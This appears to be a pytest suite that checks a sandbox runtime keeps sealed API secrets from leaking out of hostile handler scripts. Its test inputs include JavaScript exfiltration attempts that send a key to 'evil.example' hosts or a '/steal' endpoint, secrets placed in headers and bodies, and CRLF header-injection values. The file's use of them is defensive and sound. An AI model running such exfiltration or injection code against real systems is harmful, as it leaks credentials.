"""What a hostile handler tries with a seal, and what it gets (RUNTIME §12)."""

from __future__ import annotations

import base64
import re
from typing import Any

import pytest

from sandbox.conftest import Instance
from seals.conftest import Shop, run, run_fails
from support.http import HttpServer, redirect

pytestmark = pytest.mark.hostile

VALUE = "hunter2-secret"


@pytest.fixture
def shop(make: Shop, http_server: HttpServer) -> Instance:
    http_server.route("*", "/*", {})
    return make(VALUE)


def everything(http_server: HttpServer) -> str:
    """All that arrived at the server."""
    return repr([(r.target, r.headers, r.body) for r in http_server.requests])


def test_a_seal_for_a_foreign_host_is_not_sent(shop: Instance) -> None:
    with HttpServer() as foreign:
        error = run_fails(shop, f"await fetch('{foreign.url}/steal?k=' + key)")
        assert error.code == "API005"
        assert VALUE not in str(error)
        assert foreign.requests == []
    error = run_fails(shop, "await fetch(`https://${key}.evil.example/`)")
    assert error.code == "API005"
    assert VALUE not in f"{error} {error.hint}"


@pytest.mark.parametrize(
    "options",
    [
        "?k=${key}`",
        "`, {headers: {'X-Key': key}}",
        "`, {headers: {Authorization: 'Basic ' + btoa('u:' + key)}}",
        "`, {method: 'POST', body: JSON.stringify({key})}",
        "`, {method: 'POST', body: new URLSearchParams({key})}",
    ],
)
def test_a_seal_is_not_sent_over_http(make: Shop, options: str) -> None:
    shop = make(VALUE, config={"api_url": "https://api.example"}, hosts=["api.example"])
    seen = run(shop, f"try {{ await fetch(`http://api.example/{options}) }} catch (e) {{"
                     " return [e.name, e.code, e.message] }")  # fmt: skip
    assert seen[:2] == ["FetchError", "SECRET_OVER_HTTP"]
    assert VALUE not in seen[2]


def test_the_host_is_judged_before_the_secret(shop: Instance) -> None:
    code = "try { await fetch('http://evil.example/' + key) } catch (e) { return e.code }"
    assert run(shop, code) == "EGRESS_BLOCKED"


@pytest.mark.parametrize("status", [302, 307])
def test_a_redirect_to_another_host_carries_no_secret(
    make: Shop, http_server: HttpServer, status: int
) -> None:
    with HttpServer() as other:
        other.route("*", "/there", {})
        http_server.route("*", "/here", redirect(f"{other.url}/there", status))
        config = {"api_url": http_server.url, "files": other.url}
        run(make(VALUE, config=config), """
            await fetch(url + '/here', {method: 'POST', body: `k=${key}`, headers: {
                Authorization: 'Basic ' + btoa('u:' + key), 'X-Key': key, 'X-Kind': 'plain'}});
        """)  # fmt: skip
        (request,) = other.requests
        assert request.headers["x-kind"] == "plain"
        assert {"authorization", "x-key"}.isdisjoint(request.headers)
        assert request.body == b""


def test_a_seal_that_an_api_puts_into_a_redirect_is_not_opened(
    make: Shop, http_server: HttpServer
) -> None:
    shop = make(VALUE)
    seal = run(shop, "return key")
    http_server.route("GET", "/here", redirect(f"/there?k={seal}"))
    http_server.route("GET", "/there", {})
    run(shop, "await fetch(url + '/here')")
    assert http_server.requests[-1].query == {"k": seal}


@pytest.mark.parametrize(
    "change",
    [
        "key.slice(0, -1)",
        "key.slice(1)",
        "key.toUpperCase()",
        "[...key].reverse().join('')",
        "key.slice(0, 10) + '-' + key.slice(10)",
        "escape(key).replaceAll('_', '%5F')",
    ],
)
def test_a_changed_seal_is_useless_text(
    shop: Instance, http_server: HttpServer, change: str
) -> None:
    run(shop, f"await fetch(url, {{method: 'POST', body: {change}}})")
    assert VALUE not in everything(http_server)


def test_a_forged_derived_seal_is_not_opened(shop: Instance, http_server: HttpServer) -> None:
    forged = [
        "sealed_b_8_61626364",  # a text without seals
        "sealed_b_4_",
        "sealed_b_3_616",
        "sealed_b_999999999_" + "61" * 50,
        "sealed_b_0_",
        "sealed_" + "0" * 32,
        "sealed_b_78_" + ("sealed_" + "0" * 32).encode().hex(),
    ]
    run(shop, f"for (const body of {forged}) await fetch(url, {{method: 'POST', body}})")
    assert [r.body.decode() for r in http_server.requests] == forged


def test_a_derived_seal_written_by_hand_is_what_btoa_gives(
    shop: Instance, http_server: HttpServer
) -> None:
    run(
        shop,
        """
        const hex = [...`a${key}`].map(c => c.charCodeAt(0).toString(16)).join('');
        await fetch(url, {method: 'POST', body: `sealed_b_${hex.length}_${hex}ff`});
    """,
    )
    assert http_server.requests[0].body == base64.b64encode(b"a" + VALUE.encode()) + b"ff"


def test_seals_nested_in_seals_end(shop: Instance, http_server: HttpServer) -> None:
    run(
        shop,
        """
        let text = key;
        for (let i = 0; i < 8; i++) text = btoa(text);
        await fetch(url, {method: 'POST', body: text});
    """,
    )
    assert VALUE not in everything(http_server)


def test_a_seal_of_another_instance_is_not_opened(
    shop: Instance, make: Shop, http_server: HttpServer
) -> None:
    stolen = run(make("other-secret"), "return key")
    run(shop, f"await fetch(url, {{method: 'POST', body: `{stolen} ${{btoa('{stolen}')}}`}})")
    body = http_server.requests[0].body.decode()
    assert body.startswith(f"{stolen} sealed_b_")
    assert "other-secret" not in body


def test_seals_cannot_make_a_request_grow_without_end(make: Shop, http_server: HttpServer) -> None:
    shop = make("x" * 60_000)
    seen = run(shop, "try { await fetch(url, {method: 'POST', body: key.repeat(10000)}) }"
                     " catch (e) { return e.code }")  # fmt: skip
    assert seen == "TOO_LARGE"
    assert http_server.requests == []


@pytest.mark.parametrize("value", ["two\r\nX-Evil: 1", "the end\n", "nul\0", "one\x01", "\ud800"])
def test_a_secret_with_a_line_break_makes_no_header(
    make: Shop, http_server: HttpServer, value: str
) -> None:
    shop = make(value)
    seen = run(
        shop, "try { await fetch(url, {headers: {'X-Key': key}}) } catch (e) { return e.code }"
    )
    assert seen == "EGRESS_BLOCKED"
    assert http_server.requests == []


def test_what_a_handler_prints_or_throws_names_the_secret(shop: Instance) -> None:
    run(shop, "console.log(key, btoa('user:' + key), { key })")
    error = run_fails(shop, "throw new Error(`bad key ${key} ${btoa('x' + key)}`)")
    assert error.message == "bad key [secret api_key] [secret api_key]"
    line = shop.runtime.log[-1]
    assert "sealed_" not in line
    assert line.count("[secret api_key]") == 3


def test_a_failed_request_names_no_secret(make: Shop) -> None:
    with HttpServer() as gone:
        url = gone.url
    shop = make("abc", config={"api_url": url})
    seen: Any = run(shop, "try { await fetch(`${url}/v/${key}`) } catch (e) { return e.message }")
    assert "abc" not in seen
    assert re.search(r"/v/\[secret api_key\]", seen)
